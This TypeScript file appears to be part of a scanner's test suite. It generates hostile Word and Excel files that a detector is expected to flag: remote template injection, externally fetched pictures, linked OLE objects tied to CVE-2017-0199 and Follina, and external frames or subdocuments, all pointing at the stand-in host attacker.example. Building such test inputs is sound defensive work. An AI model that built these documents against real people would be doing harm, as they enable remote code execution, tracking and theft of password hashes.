import type { HostileKind, Variation } from '../../hostile-kind.js';
import type { Sender } from '../../sender.js';
import { DOCUMENT_END, documentStart } from '../../twins/docx.js';
import { packed, WORD, WORKBOOK } from '../../twins/office.js';
import { type Relation, withPart, withRelation } from '../../twins/parts.js';

/** Where a part is fetched from; `attacker.example` is nobody's (RFC 2606). */
const PLACES = [
  'http://attacker.example/a',
  'https://attacker.example/a.dotm',
  'file://attacker.example/share/a',
  '\\\\attacker.example\\share\\a',
  'mhtml:http://attacker.example/a.html!x-usc:http://attacker.example/a.html',
] as const;

/** Template injection: the document itself holds no program, the template that is fetched does. */
export const REMOTE_TEMPLATE: HostileKind = {
  kind: 'remote-template',
  what: 'A docx is attached to a template elsewhere (http, https, file, UNC, mhtml).',
  source: 'MITRE ATT&CK T1221; CVE-2017-0199',
  *files(sender) {
    for (const target of PLACES) {
      yield fromSettings(sender, { id: 'rId1', type: 'attachedTemplate', target, isExternal: true });
      yield fromSettings(sender, {
        id: 'rId1',
        type: 'http://purl.oclc.org/ooxml/officeDocument/relationships/attachedTemplate',
        target,
        isExternal: true,
      });
    }
  },
};

/** A picture that is fetched tells who opened the document, or hands out a password hash to a file server. */
export const EXTERNAL_PICTURE: HostileKind = {
  kind: 'external-picture',
  what: 'A docx or xlsx shows a picture that lies elsewhere.',
  source: 'CWE-918; MITRE ATT&CK T1187',
  *files(sender) {
    for (const target of PLACES) {
      const relation = { id: 'rId9', type: 'image', target, isExternal: true };
      yield fromWord(sender, relation, picture('r:link="rId9"'));
      const { number, name } = sender.letter('xlsx');
      yield {
        name,
        expected: ['external-content'],
        content: () => packed(withRelation(WORKBOOK.parts(number), 'xl/drawings/_rels/drawing1.xml.rels', relation)),
      };
    }
  },
};

/** A linked object is fetched and opened by what its sender says it is. */
export const EXTERNAL_OBJECT: HostileKind = {
  kind: 'external-object',
  what: 'A docx links an OLE object elsewhere, to be updated when it is opened.',
  source: 'CVE-2017-0199; CVE-2021-40444; CVE-2022-30190 (Follina)',
  *files(sender) {
    for (const target of [...PLACES, 'http://attacker.example/a.html!']) {
      const object =
        '<w:p><w:r><w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" Type="Link" UpdateMode="OnCall" ' +
        'ProgID="htmlfile" ShapeID="s1" DrawAspect="Content" ObjectID="_1" r:id="rId9"/></w:object></w:r></w:p>';
      yield fromWord(sender, { id: 'rId9', type: 'oleObject', target, isExternal: true }, object);
    }
  },
};

/** Frames, parts of a master document and imported parts of text are fetched like templates. */
export const EXTERNAL_FRAME: HostileKind = {
  kind: 'external-frame',
  what: 'A docx has a frame, a part of a master document or an imported part that lies elsewhere.',
  source: 'MITRE ATT&CK T1221; ECMA-376-1 17.15.2 (web settings)',
  *files(sender) {
    for (const target of PLACES.slice(0, 4)) {
      const { number, name } = sender.letter('docx');
      yield {
        name,
        expected: ['external-content'],
        content: () => {
          const parts = withPart(WORD.parts(number), 'word/webSettings.xml', framesOf());
          const related = withRelation(parts, WORD.mainRelations, { id: 'rId9', type: 'webSettings', target: 'webSettings.xml' });
          return packed(withRelation(related, 'word/_rels/webSettings.xml.rels', { id: 'rId1', type: 'frame', target, isExternal: true }));
        },
      };
      yield fromWord(sender, { id: 'rId9', type: 'subDocument', target, isExternal: true }, '<w:subDoc r:id="rId9"/>');
      yield fromWord(sender, { id: 'rId9', type: 'aFChunk', target, isExternal: true }, '<w:altChunk r:id="rId9"/>');
    }
  },
};

function fromWord(sender: Sender, relation: Relation, element: string): Variation {
  const { number, name } = sender.letter('docx');
  return {
    name,
    expected: ['external-content'],
    content: () => {
      const parts = withPart(WORD.parts(number), WORD.mainPart, `${documentStart(number)}${element}${DOCUMENT_END}`);
      return packed(withRelation(parts, WORD.mainRelations, relation));
    },
  };
}

function fromSettings(sender: Sender, relation: Relation): Variation {
  const { number, name } = sender.letter('docx');
  return {
    name,
    expected: ['external-content'],
    content: () => packed(withRelation(WORD.parts(number), 'word/_rels/settings.xml.rels', relation)),
  };
}

function picture(reference: string): string {
  return (
    '<w:p><w:r><w:drawing><wp:inline xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing">' +
    '<a:graphic xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main">' +
    '<a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture">' +
    '<pic:pic xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:blipFill>' +
    `<a:blip ${reference}/></pic:blipFill></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>`
  );
}

function framesOf(): string {
  return (
    '<w:webSettings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" ' +
    'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">' +
    '<w:frameset><w:frame><w:sourceFileName r:id="rId1"/></w:frame></w:frameset></w:webSettings>'
  );
}
